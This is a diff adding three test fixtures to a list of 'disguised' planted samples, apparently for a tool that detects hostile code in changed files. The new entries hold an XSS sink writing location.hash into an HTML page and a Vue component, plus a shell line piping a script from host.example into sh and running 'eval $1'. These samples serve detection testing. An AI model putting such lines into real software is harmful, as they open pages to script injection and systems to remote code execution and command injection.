@@ -196,6 +196,27 @@ const disguised: readonly Planted[] = [
     comment: '#',
   },
   {
+    name: 'JavaScript in a page of HTML',
+    kind: 'program',
+    file: 'change.html',
+    line: '<p>Hello.</p>\n<script type="application/json">{"a": 1}</script>\n<script>document.write(location.hash.slice(1));</script>',
+    comment: '<!-- -->',
+  },
+  {
+    name: 'JavaScript in a second script of a component',
+    kind: 'program',
+    file: 'change.vue',
+    line: '<script>export default {};</script>\n<script setup>document.write(location.hash.slice(1));</script>',
+    comment: '<!-- -->',
+  },
+  {
+    name: 'command injection in a shell script',
+    kind: 'program',
+    file: 'change.sh',
+    line: 'curl http://host.example/install.sh | sh\neval $1',
+    comment: '#',
+  },
+  {
     name: 'Java in a page',
     kind: 'program',
     file: 'change.jsp',
